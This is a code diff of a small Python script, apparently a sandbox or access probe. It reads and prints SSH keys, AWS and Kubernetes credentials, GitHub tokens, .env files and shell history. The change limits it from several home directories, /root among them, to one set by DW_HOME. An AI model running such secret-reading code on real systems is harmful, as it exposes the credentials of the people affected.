@@ -7,12 +7,10 @@
 import errno
 import os
 
-homes = [os.environ["DW_HOME"], "/root", os.path.expanduser("~")]
 names = (".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".config/gh/hosts.yml", ".env",
          ".bash_history")
-for home in homes:
-    for name in names:
-        try:
-            print(open(os.path.join(home, name)).read())
-        except OSError as e:
-            print("stopped:", errno.errorcode[e.errno], "at", name)
+for name in names:
+    try:
+        print(open(os.path.join(os.environ["DW_HOME"], name)).read())
+    except OSError as e:
+        print("stopped:", errno.errorcode[e.errno], "at", name)
